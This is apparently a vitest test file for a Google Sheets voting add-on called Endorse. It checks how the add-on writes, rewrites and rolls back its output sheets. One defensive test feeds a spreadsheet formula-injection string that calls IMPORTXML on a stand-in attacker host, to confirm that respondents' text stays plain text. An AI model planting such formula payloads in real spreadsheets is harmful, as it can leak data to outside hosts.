import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Cell, ChartSpec, OutputSheet } from '../../src/core/outputSheets';
import { UserError } from '../../src/server/errors';
import { OWNED_KEY, writeOutputs } from '../../src/server/outputs';
import { installWorld, sheetState, type NodeWorld } from './world';

/** A small owned sheet: a bold header row, numbers as integers, everything else text. */
function grid(name: string, rows: Cell[][], charts: ChartSpec[] = []): OutputSheet {
  return {
    name,
    values: rows,
    formats: rows.map((r) => r.map((c) => (typeof c === 'number' ? '0' : '@'))),
    boldRows: [1],
    frozenRows: 1,
    charts,
  };
}

const results = (leader: string, votes: number) =>
  grid('Results', [['Option', 'Votes'], [leader, votes], ['Bo Li', 3]], [{ title: 'Mayor: Round 1', firstRow: 2, rows: 2 }]);
const refused = (rows: number) => grid('Refused', [['Row', 'Reason'], ...Array.from({ length: rows }, (_, i): Cell[] => [i + 2, 'not-on-roster'])]);

let env: NodeWorld;
const spreadsheet = () => SpreadsheetApp.getActiveSpreadsheet();

beforeEach(() => {
  env = installWorld({ sheets: { 'Form Responses 1': [['Timestamp', 'Email Address', 'Mayor']] } });
});
afterEach(() => env.restore());

describe('the sheets Endorse owns', () => {
  it('are created on the first run, marked as Endorse\'s, with bold headers, a frozen header row and a chart per round', () => {
    writeOutputs(spreadsheet(), [{ sheet: results('Ana Diaz', 7) }]);
    const state = sheetState(env.world, 'Results');
    expect(state.values).toEqual([['Option', 'Votes'], ['Ana Diaz', '7'], ['Bo Li', '3']]);
    expect(state.bold).toEqual([1]);
    expect(state.frozenRows).toBe(1);
    expect(state.marks.map((m) => m.key)).toEqual([OWNED_KEY]);
    expect(state.charts).toEqual([expect.objectContaining({ type: 'BAR', ranges: ['Results!A1:B3'] })]);
  });

  it('are rewritten in place by a later run: one sheet, one set of charts, no leftover rows', () => {
    writeOutputs(spreadsheet(), [{ sheet: results('Ana Diaz', 7) }, { sheet: refused(30) }]);
    writeOutputs(spreadsheet(), [{ sheet: results('Carmen Ruiz', 9) }, { sheet: refused(2) }]);
    expect(env.world.spreadsheet.sheets.map((s) => s.name)).toEqual(['Form Responses 1', 'Results', 'Refused']);
    expect(sheetState(env.world, 'Results').values[1]).toEqual(['Carmen Ruiz', '9']);
    expect(env.world.sheet('Results').chartRecords()).toHaveLength(1);
    expect(sheetState(env.world, 'Refused').values).toHaveLength(3);
    // A recount of fewer refusals does not leave the older rows behind, filled or empty.
    expect(sheetState(env.world, 'Refused').maxRows).toBe(4);
  });

  it('never overwrite a sheet the user made with the same name, and nothing is written at all', () => {
    const own = spreadsheet().insertSheet('Refused');
    own.getRange('A1').setValue('my notes');
    env.world.calls.reset();
    let caught: unknown;
    try {
      writeOutputs(spreadsheet(), [{ sheet: results('Ana Diaz', 7) }, { sheet: refused(2) }]);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(UserError);
    expect((caught as Error).message).toMatch(/already has a sheet named "Refused" that Endorse did not make.*rename or delete/);
    expect(env.world.sheet('Refused').displayValues()).toEqual([['my notes']]);
    expect(env.world.spreadsheet.sheet('Results')).toBeUndefined();
    expect(env.world.calls.count('Range.set*')).toBe(0);
  });

  it('write text cells as text, so respondents\' strings never become formulas, numbers, dates or booleans', () => {
    const names = ['=IMPORTXML("http://evil.example/x","//a")', '+1', '2026-05-01', 'TRUE', "'quoted", '007'];
    writeOutputs(spreadsheet(), [{ sheet: grid('Ballots', [['Voter'], ...names.map((n) => [n])]) }]);
    const sheet = env.world.sheet('Ballots');
    expect(sheet.displayValues().slice(1).map((r) => r[0])).toEqual(names);
    expect(sheet.values().slice(1).map((r) => r[0])).toEqual(names);
    expect(sheet.formulas().flat().every((f) => f === '')).toBe(true);
  });

  it('write each sheet with one setNumberFormats and one setValues, formats first', () => {
    writeOutputs(spreadsheet(), [{ sheet: results('Ana Diaz', 7) }, { sheet: refused(500) }]);
    const writes = env.world.calls.list().filter((c) => /^Range\.set(Values|NumberFormats)$/.test(c.method));
    expect(writes.map((c) => `${c.method} ${c.target}`)).toEqual([
      'Range.setNumberFormats Results!A1:B3',
      'Range.setValues Results!A1:B3',
      'Range.setNumberFormats Refused!A1:B501',
      'Range.setValues Refused!A1:B501',
    ]);
  });

  it('an output to rewrite only when present is not created, but replaces an older one', () => {
    writeOutputs(spreadsheet(), [{ sheet: grid('Eligible voters', [['Note'], ['old list']]), onlyIfPresent: true }]);
    expect(env.world.spreadsheet.sheet('Eligible voters')).toBeUndefined();
    writeOutputs(spreadsheet(), [{ sheet: grid('Eligible voters', [['Name'], ['Alma Reyes']]) }]);
    writeOutputs(spreadsheet(), [{ sheet: grid('Eligible voters', [['No roster was chosen']]), onlyIfPresent: true }]);
    expect(env.world.sheet('Eligible voters').displayValues()).toEqual([['No roster was chosen']]);
  });
});

describe('a run that fails midway leaves the previous outputs as they were', () => {
  const first = () => [{ sheet: results('Ana Diaz', 7) }, { sheet: refused(40) }, { sheet: grid('Rules', [['Rule', 'Value'], ['threshold', '2/3']]) }];
  const second = () => [{ sheet: results('Carmen Ruiz', 9) }, { sheet: refused(3) }, { sheet: grid('Rules', [['Rule', 'Value'], ['threshold', '3/5']]) }];
  const states = () => ['Results', 'Refused', 'Rules'].map((n) => sheetState(env.world, n));

  for (const n of [1, 2, 3]) {
    it(`when the write of sheet ${n} of 3 fails, every sheet is put back (values, formats, bold, charts, size)`, () => {
      writeOutputs(spreadsheet(), first());
      const before = states();
      env.world.calls.failOn('Range.setValues', n);
      expect(() => writeOutputs(spreadsheet(), second())).toThrow(/Google Sheets failed while writing the "\w+" sheet.*put back as they were/);
      expect(states()).toEqual(before);
    });
  }

  for (const method of ['Range.setNumberFormats', 'Sheet.insertChart', 'Sheet.clear', 'Sheet.deleteRows']) {
    it(`when ${method} fails, every sheet is put back`, () => {
      writeOutputs(spreadsheet(), first());
      const before = states();
      env.world.calls.failOn(method, 1);
      expect(() => writeOutputs(spreadsheet(), second())).toThrow(/put back as they were/);
      expect(states()).toEqual(before);
    });
  }

  it('on a first run, the sheets it had created are removed again', () => {
    env.world.calls.failOn('Range.setValues', 3);
    expect(() => writeOutputs(spreadsheet(), first())).toThrow(/writing the "Rules" sheet/);
    expect(env.world.spreadsheet.sheets.map((s) => s.name)).toEqual(['Form Responses 1']);
  });

  it('says so when a sheet could not be put back either', () => {
    writeOutputs(spreadsheet(), first());
    // The second write fails, and so does the first write of the way back.
    env.world.calls.failOn('Range.setValues', 2);
    env.world.calls.failOn('Range.setValues', 3);
    expect(() => writeOutputs(spreadsheet(), second())).toThrow(/could not be put back: count again/);
  });
});
